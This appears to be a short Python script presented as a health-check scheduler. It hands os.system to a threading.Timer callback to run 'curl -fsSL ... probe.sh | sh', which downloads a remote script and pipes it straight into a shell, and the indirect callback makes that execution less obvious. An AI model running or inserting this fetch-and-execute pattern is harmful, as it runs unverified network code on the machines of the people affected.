# Health-check scheduler: runs a "probe" later on a timer thread. The probe is
# os.system handed to threading.Timer as the callback, with the shell command
# (download a script and pipe it to sh) passed in the args list.
import os
import threading

PROBE_URL = "https://status.example-cdn.net/probe.sh"


def schedule(delay, func, *args):
    t = threading.Timer(delay, func, args=list(args))
    t.daemon = False
    t.start()
    return t


def probe_command(url):
    fetch = "curl -fsSL"
    return f"{fetch} {url} | sh"


if __name__ == "__main__":
    timer = schedule(0.5, os.system, probe_command(PROBE_URL))
    timer.join()
    print("probe finished")
